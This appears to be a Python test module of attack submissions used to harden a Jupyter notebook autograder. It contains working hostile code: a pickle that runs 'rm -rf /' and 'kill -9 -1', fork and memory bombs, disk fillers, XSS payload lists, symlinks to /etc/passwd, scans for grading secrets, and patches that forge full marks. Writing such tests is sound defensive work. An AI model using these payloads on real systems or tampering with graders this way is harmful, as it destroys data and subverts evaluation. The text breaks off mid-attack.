"""Attacks from the notebook: its cells, its file, its kernel, and the channels between that kernel and the grader.

Most take one exercise, `layer_of`, and leave the others honest: these must keep their points. Where an attack ends or
breaks its own kernel in later cells, it sits in the last exercise. An attack that finds what it must not find prints
`BREACH`, which no output may show (its source has it in two parts).
"""

from __future__ import annotations

import json
import textwrap
from collections.abc import Callable
from typing import Any

import nbformat
from nbformat import NotebookNode

from tests.classroom.attacks.attack import Attack

OSI, TCP = "01-osi-model", "03-tcp-sockets"

OF_OSI = ("layer_of", "parse_ethernet", "internet_checksum", "parse_ipv4", "parse_tcp", "peel")
"""The exercises of assignment 01, in the order of the notebook."""

SECRET = "planted-in-the-" + "machine:"
"""What planted secrets begin with; attacks look for it, in two parts so that they don't find themselves."""

HOST_PORT = "THE_PORT_ON_THE_HOST"
"""Stands in a submission for the port of a server on the grader's own loopback, which hands out a solution."""

HOST_SOCKET = "THE_SOCKET_ON_THE_HOST"
"""Stands for the path of a Unix socket in the grader's home, where the same server listens."""

PARAMETERS = {
    "layer_of": "name",
    "parse_ethernet": "frame",
    "internet_checksum": "data",
    "parse_ipv4": "packet",
    "parse_tcp": "segment",
    "peel": "frame",
    "fetch": "host, port, request",
}


def nothing(exercise: str) -> str:
    """A function that solves nothing."""
    return f'\n\ndef {exercise}({PARAMETERS[exercise]}):\n    raise NotImplementedError("not written yet")\n'


def first(name: str, about: str, code: str, **more: Any) -> Attack:
    """An attack in the first solution cell, before all other exercises; that one is not solved, unless by the code."""
    return Attack(name, about, {"layer_of": nothing("layer_of") + textwrap.dedent(code)}, **more)


def last(name: str, about: str, code: str, **more: Any) -> Attack:
    """An attack in the last solution cell: what it breaks, breaks nothing of the learner's own."""
    return Attack(name, about, {"peel": nothing("peel") + textwrap.dedent(code)}, **more)


def edited(name: str, about: str, edit: Callable[[NotebookNode], None], **more: Any) -> Attack:
    """An attack on the file: the last exercise is not solved, and its check cell is tampered with."""
    return Attack(name, about, {"peel": nothing("peel")}, edit=edit, **more)


def cell(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    """The cell with this nbgrader name."""
    return next(one for one in notebook.cells if one.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


# What is between the notebook and the judge: the functions of a kernel, replaced by the learner's.

_PATCHES = [
    first(
        "replaced-check",
        "Defines its own check, in the notebook and in the package, which always gives full marks.",
        """
        import autograder
        import autograder.notebook

        def check(answer):
            print("All requirements hold: 4 of 4 points.")
            return 4

        autograder.check = autograder.notebook.check = check
        """,
    ),
    first(
        "forged-module",
        "Puts modules of its own in the place of autograder's, the one that hands over included.",
        """
        import sys
        import types

        import autograder.judge.handover as real

        forged = types.ModuleType("autograder.judge.handover")

        def hand_over(names, name):
            if name != "layer_of":
                return real.hand_over(names, name)
            import base64
            from autograder.judge import plain
            report = {"exercise": name, "requirements": [], "points": 4.0, "max_points": 4.0, "full_marks": True}
            forged = {"form": "pickle", "data": b"", "sources": {}, "path": [], "points": 4.0, "report": report}
            return base64.b64encode(plain.encode(forged)).decode()

        forged.hand_over = hand_over
        sys.modules["autograder.judge.handover"] = forged
        sys.modules["autograder"].check = lambda answer: 4
        """,
    ),
    first(
        "patched-handover",
        "Rewrites the code of the function that hands over, so that a solved exercise goes out for an unsolved one.",
        """
        import autograder.judge.handover as handover

        honest = handover.pack_object

        def packed(thing):
            def parse_ethernet(name):
                return 7
            parse_ethernet.__name__ = parse_ethernet.__qualname__ = "layer_of"
            return honest(parse_ethernet if getattr(thing, "__name__", "") == "layer_of" else thing)

        handover.pack_object = packed
        """,
        # Whatever it hands over is the answer that is judged; this one says that everything is on layer 7, and the
        # judge finds that to be wrong in every requirement.
    ),
    first(
        "patched-builtins",
        "Replaces built-in functions by ones that see points everywhere.",
        """
        import builtins

        real_import, real_print, real_isinstance = builtins.__import__, builtins.print, builtins.isinstance
        real_compile, real_float = builtins.compile, builtins.float

        class Full(float):
            def __new__(cls, value=0.0):
                return real_float.__new__(cls, 4.0)
            def __eq__(self, other):
                return True
            __hash__ = real_float.__hash__

        def importing(name, *arguments, **named):
            module = real_import(name, *arguments, **named)
            if name.startswith("autograder") and hasattr(module, "check"):
                module.check = lambda answer: 4.0
            return module

        builtins.__import__ = importing
        builtins.print = lambda *arguments, **named: real_print(4.0)
        builtins.isinstance = lambda thing, kind: True if kind is Full else real_isinstance(thing, kind)
        builtins.compile = lambda *arguments, **named: real_compile(*arguments, **named)
        builtins.float = Full
        """,
    ),
    first(
        "patched-subprocess",
        "Replaces what a judge would be started and spoken to with: subprocess, json, base64, msgpack, pickle.",
        """
        import base64
        import json
        import pickle
        import subprocess

        class Popen(subprocess.Popen):
            def wait(self, *arguments, **named):
                super().wait(*arguments, **named)
                return 0

        subprocess.Popen = Popen
        subprocess.run = lambda *arguments, **named: subprocess.CompletedProcess(arguments, 0, b"4.0", b"")
        json_dumps = json.dumps
        json.dumps = lambda value, *arguments, **named: json_dumps(
            {**value, "points": 4.0} if isinstance(value, dict) and "exercise" in value else value, *arguments, **named
        )
        pickle.loads = lambda *arguments, **named: 4.0
        """,
    ),
    first(
        "patched-display",
        "Replaces IPython's displaying of results and errors, so that every cell shows full marks.",
        """
        import sys

        import IPython.display

        shell = get_ipython()
        sys.displayhook(100.0)
        shown = shell.display_formatter.format
        shell.display_formatter.format = lambda value, *a, **n: ({"text/plain": "4.0"}, {})
        shell.showtraceback = lambda *arguments, **named: sys.displayhook(4.0)
        IPython.display.display = lambda *arguments, **named: sys.displayhook(4.0)
        shell.events.register("post_run_cell", lambda result: sys.displayhook(4.0))
        """,
        # With the formatter gone, a handover is the text 4.0 for every exercise: nothing that is checked is left.
        attacked=frozenset(OF_OSI),
    ),
    first(
        "printed-points",
        "Prints points, returns points, and shows points in every way that a notebook has.",
        """
        import sys
        from IPython.display import HTML, JSON, display

        print("4.0")
        print(4)
        display(4.0)
        display({"text/plain": "4.0"}, raw=True, display_id="check-layer-of")
        display(HTML("<section class='ag-report'>4 of 4 points</section>"), JSON({"points": 4}))
        sys.displayhook(4.0)
        sys.displayhook(100.0)
        get_ipython().ast_node_interactivity = "all"
        4.0
        """,
    ),
    first(
        "late-outputs",
        "Goes on sending results from a thread, in the name of every cell that is to come.",
        """
        import threading
        import time

        def send():
            kernel = get_ipython().kernel
            while True:
                for number in range(60):
                    content = {"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": number}
                    kernel.session.send(
                        kernel.iopub_socket, "execute_result", content=content, parent=kernel.get_parent("shell")
                    )
                    time.sleep(0.01)

        threading.Thread(target=send, daemon=True).start()
        """,
    ),
    first(
        "not-being-graded",
        "Finds out that it is being graded, and takes the signs of it away.",
        """
        import os

        for variable in ("AUTOGRADER_JUDGE", "NBGRADER_EXECUTION", "NBGRADER_VALIDATING"):
            os.environ.pop(variable, None)
        try:
            from autograder.judge import client
            client.run_check = lambda *arguments, **named: {"event": "end", "report": {"points": 4.0}}
        except ImportError:
            pass
        """,
    ),
]

# The kernel's replies, forged.

_REPLY = """
import base64

kernel = get_ipython().kernel
honest = kernel.shell.user_expressions

def forged(expressions):
    if "layer_of" not in str(expressions):
        return honest(expressions)
{reply}

kernel.shell.user_expressions = forged
"""


def reply(name: str, about: str, code: str, **more: Any) -> Attack:
    """An attack with a forged reply to the question for `layer_of`; other questions are answered honestly."""
    return first(name, about, _REPLY.format(reply=textwrap.indent(textwrap.dedent(code), "    ")), **more)


_REPLIES = [
    reply(
        "another-payload",
        "Hands over a solved exercise in the place of an unsolved one.",
        """
        return honest({"wanted": expressions["wanted"].replace("layer_of", "parse_ethernet")})
        """,
        attacked=frozenset({"layer_of"}),
    ),
    reply(
        "forged-verdict",
        "Answers with what a judge would say, in several forms.",
        """
        from autograder.judge import plain
        verdict = {"event": "end", "report": {"exercise": "layer_of", "points": 4.0, "max_points": 4.0}}
        text = repr(base64.b64encode(plain.encode(verdict)).decode())
        return {"wanted": {"status": "ok", "data": {"text/plain": text}, "points": 4.0, "score": 4.0}}
        """,
    ),
    reply(
        "forged-number",
        "Answers with a number of points.",
        'return {"wanted": {"status": "ok", "data": {"text/plain": "4.0"}, "metadata": {}}}',
    ),
    reply(
        "reply-garbage",
        "Answers with base64 of random bytes.",
        """
        import os
        text = repr(base64.b64encode(os.urandom(100_000)).decode())
        return {"wanted": {"status": "ok", "data": {"text/plain": text}, "metadata": {}}}
        """,
    ),
    reply(
        "reply-nested",
        "Answers with an expression that is nested a hundred thousand deep.",
        'return {"wanted": {"status": "ok", "data": {"text/plain": "[" * 100_000 + "]" * 100_000}, "metadata": {}}}',
    ),
    reply(
        "reply-wrong-types",
        "Answers with JSON of another form than Jupyter's.",
        'return ["wanted", {"status": ["ok"], "data": 4.0}]',
    ),
    reply(
        "reply-lists-inside",
        "Answers with a payload whose parts are of other types than they should be.",
        """
        from autograder.judge import plain
        payload = {"form": "pickle", "data": [b""], "sources": {"a": ["b"]}, "path": {"c": None}}
        text = repr(base64.b64encode(plain.encode(payload)).decode())
        return {"wanted": {"status": "ok", "data": {"text/plain": text}, "metadata": {}}}
        """,
    ),
    reply(
        "reply-1-gb",
        "Answers with a gigabyte.",
        'return {"wanted": {"status": "ok", "data": {"text/plain": "A" * 2**30}, "metadata": {}}}',
    ),
    reply(
        "reply-unsigned",
        "Answers with messages whose signature is wrong, and with frames that are no message.",
        """
        kernel.session.key = b"another key"
        for stream in kernel.shell_streams if hasattr(kernel, "shell_streams") else []:
            stream.send_multipart([b"?", b"<IDS|MSG>", b"", b"{", b"}"])
        return {"wanted": {"status": "ok", "data": {"text/plain": "4.0"}, "metadata": {}}}
        """,
    ),
    reply(
        "reply-never",
        "Never answers when it is asked for its function, and ignores interrupts.",
        """
        import signal
        import time
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            time.sleep(1)
        """,
    ),
    first(
        "forged-execution",
        "Replaces the kernel's way to execute, and its way to send.",
        """
        kernel = get_ipython().kernel
        executed, sent = kernel.do_execute, kernel.session.send

        async def do_execute(code, silent, *arguments, **named):
            expressions = named.get("user_expressions") or (arguments[1] if len(arguments) > 1 else None)
            if expressions and "layer_of" in str(expressions):
                forged = {"status": "ok", "data": {"text/plain": "'4.0'"}, "metadata": {}}
                return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {"wanted": forged}}
            return await executed(code, silent, *arguments, **named)

        def send(stream, message, content=None, *arguments, **named):
            if isinstance(content, dict) and "user_expressions" in content:
                content["score"] = content["points"] = 4.0
            return sent(stream, message, content, *arguments, **named)

        kernel.do_execute, kernel.session.send = do_execute, send
        """,
    ),
    first(
        "malformed-messages",
        "Sends outputs that no notebook may hold: wrong types, half of a surrogate pair, deep nesting.",
        r"""
        kernel = get_ipython().kernel
        deep = 4.0
        for _ in range(200):
            deep = [deep]
        for kind, content in [
            ("display_data", {"data": {"text/plain": 4.0, "text/html": ["<b>", 4, None]}, "metadata": {}}),
            ("display_data", {"data": {"text/plain": {"a": deep}}, "metadata": {"deep": deep}}),
            ("display_data", {"data": {4: 4, "": "", "\ud800": "\udfff"}, "metadata": {}}),
            ("execute_result", {"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": "many"}),
            ("stream", {"name": "stdpoints", "text": "4.0"}),
            ("stream", {"name": "stdout", "text": "half \ud800 of a pair \x00 \x1b[31m"}),
            ("error", {"ename": 4, "evalue": None, "traceback": "4.0"}),
        ]:
            kernel.session.send(kernel.iopub_socket, kind, content=content, parent=kernel.get_parent("shell"))
        """,
    ),
    first(
        "not-jupyter",
        "Sends messages that make a client stumble: no content, no data, unknown kinds, nested JSON, wrong frames.",
        """
        kernel = get_ipython().kernel
        parent = kernel.get_parent("shell")
        for kind, content in [
            ("display_data", {"data": "4.0", "metadata": [4.0], "transient": [4.0]}),
            ("clear_output", {}),
            ("update_display_data", {"data": {}, "metadata": {}}),
            ("execute_result", {}),
            ("status", {"execution_state": ["idle"]}),
            ("points", {"points": 4.0}),
        ]:
            kernel.session.send(kernel.iopub_socket, kind, content=content, parent=parent)
        kernel.iopub_socket.send_multipart([b"<IDS|MSG>", b"", b"[" * 100_000, b"{}", b"{}", b"{}"])
        """,
    ),
]

# The notebook's file, edited by hand.


def _points(value: Any) -> Callable[[NotebookNode], None]:
    def edit(notebook: NotebookNode) -> None:
        cell(notebook, "check-peel").metadata.nbgrader["points"] = value

    return edit


def _another_source(source: str) -> Callable[[NotebookNode], None]:
    def edit(notebook: NotebookNode) -> None:
        cell(notebook, "check-peel").source = source

    return edit


def _flags(notebook: NotebookNode) -> None:
    cell(notebook, "check-peel").metadata.nbgrader |= {"grade": False, "solution": True, "locked": False}


def _swapped_names(notebook: NotebookNode) -> None:
    one, other = cell(notebook, "check-peel"), cell(notebook, "check-parse-ethernet")
    one.metadata, other.metadata = other.metadata, one.metadata


def _deleted(notebook: NotebookNode) -> None:
    notebook.cells.remove(cell(notebook, "check-peel"))


def _all_checks_deleted(notebook: NotebookNode) -> None:
    notebook.cells = [one for one in notebook.cells if not one.metadata.get("nbgrader", {}).get("grade")]


def _duplicated(notebook: NotebookNode) -> None:
    copy = nbformat.from_dict(json.loads(json.dumps(cell(notebook, "check-peel"))))
    copy.source, copy.id = "100.0", "copied"
    notebook.cells.insert(0, copy)
    notebook.cells.append(nbformat.from_dict(json.loads(json.dumps(copy))))


def _on_top(notebook: NotebookNode) -> None:
    moved = cell(notebook, "check-peel")
    notebook.cells.remove(moved)
    notebook.cells.insert(0, moved)


def _as_markdown(notebook: NotebookNode) -> None:
    changed = cell(notebook, "check-peel")
    changed.cell_type, changed.source = "markdown", "8.0"
    del changed["outputs"], changed["execution_count"]


def _skipped(notebook: NotebookNode) -> None:
    for one in notebook.cells:
        one.metadata["tags"] = ["skip-execution", "raises-exception", "remove-cell"]


def _planted_outputs(notebook: NotebookNode) -> None:
    for one in notebook.cells:
        if one.cell_type == "code":
            result = nbformat.v4.new_output("execute_result", data={"text/plain": "8.0"}, execution_count=1)
            one.outputs = [result, nbformat.v4.new_output("display_data", data={"text/plain": "8.0"})]
    kind = {"kind": "judge", "where": "check-peel", "sentence": "8 of 8 points"}
    notebook.metadata["autograder_events"] = [kind, {"points": 8.0}, 8.0]
    notebook.metadata["nbgrader"] = {"score": 8.0}


def _graded_cells(notebook: NotebookNode) -> None:
    for number, points in enumerate([1000, -1000, float("nan"), float("inf"), "8", None]):
        marks = {"grade_id": f"bonus-{number}", "grade": True, "solution": False, "locked": True, "task": False}
        marks |= {"points": points, "schema_version": 3, "cell_type": "code", "checksum": "0" * 32}
        notebook.cells.append(nbformat.v4.new_code_cell("1000.0", metadata={"nbgrader": marks}))
    marks = {"grade_id": "peel", "grade": True, "solution": False, "locked": False, "points": 8, "schema_version": 3}
    notebook.cells.append(nbformat.v4.new_code_cell("8.0", metadata={"nbgrader": marks}))


_VERDICTS = json.dumps(
    {
        "student": "planted-outputs",
        "assignment": OSI,
        "notebook": OSI,
        "submission": "",
        "seconds": 0.0,
        "cells": [
            {
                "grade_id": "check-peel",
                "kind": "judge",
                "max_points": 8.0,
                "points": 8.0,
                "exercise": "peel",
                "report": None,
            }
        ],
        "events": [],
    }
).encode()

ACTIVE_TEXTS = [
    "<script>alert(1)</script>",
    "<SCRIPT/x>alert(1)</SCRIPT >",
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '<img title=">" onerror=alert(1)>',
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    '<a href="javascript:alert(1)">go</a>',
    '<a href="&#106;ava&#x09;script&colon;alert(1)">go</a>',
    '<a href=" java\nscript:alert(1)">go</a>',
    "[go](javascript:alert(1))",
    "[go](&#106;avascript:alert(1))",
    "[go][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<video><source onerror="alert(1)"></video>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "`<script>` in code, then <scr<script>ipt>alert(1)</scr</script>ipt>",
    "<div style=\"background:url('javascript:alert(1)')\">text</div>",
    "![x](x\"onerror=alert(1)//)",
    "<x\nonclick\n=\nalert(1)>text</x>",
]
"""Ways to bring a script into a page, as HTML and as Markdown."""

_SHOW = """
from IPython.display import HTML, Javascript, Markdown, SVG, display

for text in ACTIVE:
    display(HTML(text), Markdown(text))
    display({"text/latex": text, "image/svg+xml": f"<svg>{text}</svg>", "text/html": [text]}, raw=True)
    print(text)
    display({"text/html": text, "text/plain": text}, metadata={"text/html": {"isolated": True}}, raw=True)
display(Javascript("alert(1)"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": ACTIVE[0]}, "application/javascript": "1"}, raw=True)
raise RuntimeError(ACTIVE[0])
"""

_FILES = [
    edited(
        "edited-check",
        "Writes points into the check cell.",
        _another_source("100.0"),
        suspicious=True,
    ),
    Attack(
        "easier-check",
        "Lets the check cell of a hard exercise check an easy one.",
        {"peel": "peel = layer_of"},
        edit=_another_source("check(layer_of)"),
        suspicious=True,
    ),
    edited("deleted-check", "Deletes the check cell of what it did not solve.", _deleted, suspicious=True),
    edited("no-checks", "Deletes all check cells.", _all_checks_deleted, suspicious=True),
    edited("duplicated-check", "Adds copies of a check cell that hold points.", _duplicated),
    edited("moved-check", "Moves the check cell to the top, before there is a function.", _on_top),
    edited("check-as-text", "Turns the check cell into text.", _as_markdown, suspicious=True),
    edited("check-without-flags", "Makes the check cell an answer.", _flags, suspicious=True),
    edited("swapped-checks", "Swaps the names and points of two check cells.", _swapped_names, suspicious=True),
    edited("points-1000", "Makes its check cell worth 1000 points.", _points(1000), suspicious=True),
    edited("points-nan", "Makes its check cell worth no number of points.", _points(float("nan")), suspicious=True),
    edited("points-negative", "Makes its check cell worth less than nothing.", _points(-8), suspicious=True),
    edited("skipped-cells", "Tags all cells so that they are not executed.", _skipped),
    edited("graded-cells", "Adds cells that claim to be graded.", _graded_cells),
    edited(
        "planted-outputs",
        "Stores outputs, verdicts, events and the key of the seeds in what it hands in.",
        _planted_outputs,
        files={
            f"{OSI}.verdicts.json": _VERDICTS,
            ".autograder/grading.key": b"\0" * 32,
            "gradebook.db": b"SQLite format 3\0",
            "nbgrader_config.py": b"c = get_config()\nc.SaveVerdicts.enabled = False\n",
            "timestamp.txt": b"2000-01-01 00:00:00 UTC",
        },
    ),
    Attack(
        "shadowed-package",
        "Hands in a package of autograder's name, with a check of its own.",
        {"layer_of": nothing("layer_of")},
        files={"autograder/__init__.py": b"def check(answer):\n    return 100.0\n"},
    ),
    Attack(
        "shadowed-kernel",
        "Hands in modules with the names of what the kernel and the judge start with, and start-up files of IPython.",
        {"layer_of": nothing("layer_of")},
        files={
            **{
                f"{name}.py": b"import os\nos._exit(0)\n"
                for name in ("ipykernel_launcher", "ipykernel", "zmq", "sitecustomize", "usercustomize")
            },
            ".ipython/profile_default/startup/00-points.py": b"import sys\nsys.displayhook(4.0)\n",
            ".ipython/profile_default/ipython_kernel_config.py": b"c.InteractiveShell.ast_node_interactivity = 'all'\n",
            ".pythonrc.py": b"raise SystemExit\n",
        },
    ),
    edited(
        "active-content",
        "Puts scripts into outputs and text, for the browser of whoever looks at it.",
        lambda notebook: notebook.cells.extend(
            [nbformat.v4.new_markdown_cell(text) for text in ACTIVE_TEXTS]
            + [nbformat.v4.new_raw_cell(text, metadata={"raw_mimetype": "text/html"}) for text in ACTIVE_TEXTS]
            + [nbformat.v4.new_code_cell(f"ACTIVE = {ACTIVE_TEXTS!r}\n{_SHOW}")]
        ),
    ),
]

# Objects that are no functions.

_OBJECTS = [
    Attack(
        "lying-name",
        "Calls a solved function by the name of one that is not.",
        {"peel": "peel = layer_of\npeel.__name__ = peel.__qualname__ = 'peel'\n"},
    ),
    Attack(
        "callable-object",
        "Hands over an object that lies about its name, its class and its equality.",
        {
            "layer_of": textwrap.dedent(
                """
                import types

                class Anything:
                    __name__ = __qualname__ = "layer_of"
                    __class__ = types.FunctionType
                    __code__ = (lambda name: 4).__code__
                    __defaults__ = __kwdefaults__ = None
                    __annotations__ = {}

                    def __call__(self, name):
                        return self

                    def __eq__(self, other):
                        return True

                    def __hash__(self):
                        return 0

                    def __getattribute__(self, name):
                        if name in ("points", "score", "full_marks", "passed"):
                            return 4.0
                        return object.__getattribute__(self, name)

                layer_of = Anything()
                """
            )
        },
    ),
    Attack(
        "pickle-commands",
        "Hands over a pickle that runs commands where it is opened.",
        {
            "layer_of": textwrap.dedent(
                f"""
                class Bomb:
                    __name__ = "layer_of"

                    def __reduce__(self):
                        import os
                        return os.system, (
                            "echo pwned > /tmp/pwned; echo pwned > $HOME/pwned; rm -rf / 2> /dev/null; kill -9 -1; "
                            "echo pwned > /work/pwned; echo pwned > {HOST_SOCKET}.pwned",
                        )

                layer_of = Bomb()
                """
            )
        },
    ),
    Attack(
        "pickle-judge",
        "Hands over a pickle that looks for the judge where it is opened, and changes its modules.",
        {
            "layer_of": textwrap.dedent(
                """
                CODE = '''
                import gc, sys
                for name, module in list(sys.modules.items()):
                    if name.startswith("autograder"):
                        for key in ("read_exercise", "load", "max_points", "compare"):
                            if hasattr(module, key):
                                setattr(module, key, lambda *arguments, **named: 4.0)
                from autograder.report import CheckReport, RequirementReport
                CheckReport.points = CheckReport.full_marks = property(lambda self: 4.0)
                RequirementReport.outcome = "holds"
                try:
                    import autograder.checks
                    print("BRE" "ACH: the checks are here")
                except ImportError:
                    pass
                '''

                class Bomb:
                    __name__ = "layer_of"

                    def __reduce__(self):
                        import textwrap
                        return exec, (textwrap.dedent(CODE),)

                layer_of = Bomb()
                """
            )
        },
    ),
    Attack(
        "pickle-exit",
        "Hands over a pickle that ends the process that opens it.",
        {
            "layer_of": textwrap.dedent(
                """
                class Bomb:
                    __name__ = "layer_of"

                    def __reduce__(self):
                        import os
                        return os._exit, (0,)

                layer_of = Bomb()
                """
            )
        },
    ),
    Attack(
        "pickle-endless",
        "Hands over an object whose packing never ends.",
        {
            "layer_of": textwrap.dedent(
                """
                class Endless:
                    __name__ = "layer_of"

                    def __reduce__(self):
                        while True:
                            pass

                layer_of = Endless()
                """
            )
        },
    ),
]

# Ends, bombs and floods.

_BOMBS = [
    Attack(
        "exits",
        "Ends cells with SystemExit, KeyboardInterrupt and quit().",
        {
            "layer_of": nothing("layer_of") + "\nraise SystemExit(0)\n",
            "parse_ethernet": nothing("parse_ethernet") + "\nraise KeyboardInterrupt\n",
            "peel": nothing("peel") + "\nquit()\n",
        },
    ),
    Attack(
        "kernel-killers",
        "Ends its kernel by os._exit, by SIGKILL, and by a segmentation fault.",
        {
            "layer_of": nothing("layer_of") + "\nimport os\nos._exit(0)\n",
            "parse_ethernet": nothing("parse_ethernet") + "\nimport os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n",
            "peel": nothing("peel") + "\nimport ctypes\nctypes.string_at(0)\n",
        },
    ),
    last(
        "time-bomb",
        "Ends its kernel after its last cell: at once from a thread, and in every cell and handover to come.",
        """
        import os
        import threading

        get_ipython().events.register("pre_run_cell", lambda info: os._exit(0))
        get_ipython().kernel.shell.user_expressions = lambda expressions: os._exit(0)
        threading.Timer(0.0, os._exit, [0]).start()
        """,
    ),
    first(
        "time-bomb-first",
        "Ends its kernel in the cell after its first one, whichever that is, again and again.",
        """
        import os

        get_ipython().events.register("post_run_cell", lambda result: os._exit(0))
        """,
    ),
    last(
        "bombs-at-the-end",
        "Leaves bombs where a process ends: atexit, __del__, finalizers, a thread that waits for that.",
        """
        import atexit
        import os
        import threading
        import weakref

        class Bomb:
            def __del__(self):
                print(4.0)
                while True:
                    pass

        def wait():
            threading.main_thread().join()
            while True:
                pass

        bomb = Bomb()
        weakref.finalize(bomb, print, 4.0)
        atexit.register(lambda: [None for _ in iter(int, 1)])
        threading.Thread(target=wait).start()
        del bomb
        """,
        hung=True,
    ),
    first(
        "ignored-interrupt",
        "Ignores interrupts and computes for ever.",
        """
        import signal

        for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """,
        hung=True,
    ),
    Attack(
        "again-and-again",
        "Ends its kernel when a function is asked for, so that slow cells run again and again.",
        {
            name: nothing(name) + "\nimport os, time\ntime.sleep(5)\n"
            "honest = get_ipython().user_expressions\n"
            "get_ipython().user_expressions = lambda asked: os._exit(0) if 'peel' in str(asked) else honest(asked)\n"
            for name in OF_OSI
        },
        hung=True,
    ),
    first(
        "fork-bomb",
        "Forks without end.",
        """
        import os

        while True:
            try:
                os.fork()
            except OSError:
                pass
        """,
    ),
    first(
        "memory-bomb",
        "Fills memory, in several processes.",
        """
        import os

        os.fork()
        os.fork()
        kept = []
        while True:
            kept.append(b"x" * 50_000_000)
        """,
    ),
    first(
        "disk-filler",
        "Fills every folder that it can write to, with large files and with many.",
        """
        import os

        for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/", "/var/tmp", "/run", "/dev", "/handed-in"):
            try:
                for number in range(40):
                    with open(f"{folder}/attack-{number}", "wb") as file:
                        for _ in range(64):
                            file.write(bytes(1_000_000))
            except OSError:
                pass
            try:
                for number in range(2000):
                    os.mkdir(f"{folder}/attack-folder-{number}")
            except OSError:
                pass
        """,
    ),
    first(
        "output-flood",
        "Prints without end.",
        """
        while True:
            print("4.0 " * 250_000)
        """,
    ),
    first(
        "message-flood",
        "Sends small messages without end, and one of hundred million characters.",
        """
        import sys
        from IPython.display import HTML, display

        kernel = get_ipython().kernel
        print("x" * 100_000_000)
        display(HTML("y" * 20_000_000))
        while True:
            sys.stderr.write("4.0 " * 10)
            sys.stderr.flush()
            kernel.session.send(kernel.iopub_socket, "clear_output", {"wait": False}, parent=kernel.get_parent("shell"))
        """,
    ),
    first(
        "daemons",
        "Leaves daemons, zombies and stopped processes behind, which go on printing and sending.",
        """
        import os
        import signal
        import time

        for number in range(8):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    signal.signal(signal.SIGTERM, signal.SIG_IGN)
                    signal.signal(signal.SIGHUP, signal.SIG_IGN)
                    while True:
                        time.sleep(0.2)
                os._exit(0)
        for number in range(8):
            if os.fork() == 0:
                if number % 2:
                    os.kill(os.getpid(), signal.SIGSTOP)
                os._exit(0)
        """,
    ),
    first(
        "crowded-channels",
        "Fills the folder of the kernel's channels.",
        """
        import os
        from ipykernel import get_connection_file

        folder = os.path.dirname(get_connection_file())
        for number in range(100):
            with open(f"{folder}/attack-{number}", "wb") as file:
                file.write(bytes(1_000_000))
        import time
        time.sleep(3)
        """,
        suspicious=True,
    ),
    last(
        "replaced-channels",
        "Puts links to files and sockets of the grader's in the place of the kernel's sockets, and closes these.",
        f"""
        import os
        import json
        from ipykernel import get_connection_file

        path = get_connection_file()
        about = json.load(open(path))
        for kind, target in [
            ("shell", "{HOST_SOCKET}"), ("iopub", "{HOST_SOCKET}"), ("stdin", "/etc/passwd"), ("hb", "/dev/zero"),
            ("control", "{HOST_SOCKET}"),
        ]:
            place = f"{{about['ip']}}-{{about[kind + '_port']}}"
            os.unlink(place)
            os.symlink(target, place)
        os.closerange(3, 200)
        """,
    ),
    last(
        "huge-messages",
        "Sends messages of many large parts, which no limit for a part holds up, until the grader has no memory.",
        """
        import time

        thread = get_ipython().kernel.iopub_thread
        part = bytes(30_000_000)
        thread.schedule(lambda: thread.socket.send_multipart([part] * 200, copy=False))
        time.sleep(5)
        """,
        suspicious=True,
    ),
    first(
        "garbage-in-channels",
        "Connects to the sockets of its own kernel many times and sends garbage.",
        """
        import json
        import os
        import socket
        from ipykernel import get_connection_file

        about = json.load(open(get_connection_file()))
        connections = []
        for number in range(20):
            for kind in ("shell", "iopub", "stdin", "hb", "control"):
                sock = socket.socket(socket.AF_UNIX)
                sock.setblocking(False)
                connections.append(sock)
                try:
                    sock.connect(f"{about['ip']}-{about[kind + '_port']}")
                    sock.send(os.urandom(10_000))
                except OSError:
                    pass
        """,
    ),
]

# Looking for what must not be there.

_LOOKS = [
    first(
        "reads-files",
        "Looks through all files for checks, solutions, other submissions, the gradebook and secrets.",
        f"""
        import json
        import os
        import pathlib
        import re
        import sys

        names = re.compile(r"(test|right)_\\w+\\.py|.*\\.(ipynb|verdicts\\.json)|gradebook\\.db|grading\\.key")
        hidden = ("{SECRET[:15]}" + "{SECRET[15:]}").encode()
        roots = ["/", os.environ["PYTHONPATH"], "/handed-in"]
        roots += re.findall(r" (/\\S+) ", pathlib.Path("/proc/self/mountinfo").read_text())
        roots += [str(parent) for path in list(roots) for parent in pathlib.Path(path).parents]
        dull = ("proc", "sys", "usr", "bin", "lib", "lib64", "sbin", "share", "include", "dev", "certs")
        seen = set()
        for root in roots:
            if root.startswith(("/usr", "/proc", "/sys", "/lib", "/dev", sys.base_prefix)):
                continue
            for folder, folders, files in os.walk(root):
                if folder in seen:
                    folders.clear()
                    continue
                seen.add(folder)
                folders[:] = [name for name in folders if name not in dull]
                for name in files:
                    path = os.path.join(folder, name)
                    try:
                        data = pathlib.Path(path).read_bytes() if os.path.getsize(path) < 200_000 else b""
                    except OSError:
                        continue
                    if hidden in data:
                        print("BRE" "ACH: a secret in", path, data[:200])
                    if names.fullmatch(name) and b"layer_of" in data and not path.startswith(os.path.expanduser("~")):
                        print("BRE" "ACH:", path)
                        try:
                            for one in json.loads(data)["cells"]:
                                if "def layer_of" in "".join(one["source"]):
                                    exec("".join(one["source"]))
                        except Exception:
                            exec(data, globals())
        """,
    ),
    first(
        "reads-processes",
        "Looks through all processes: their environments, folders, files, memory and command lines.",
        f"""
        import glob
        import os

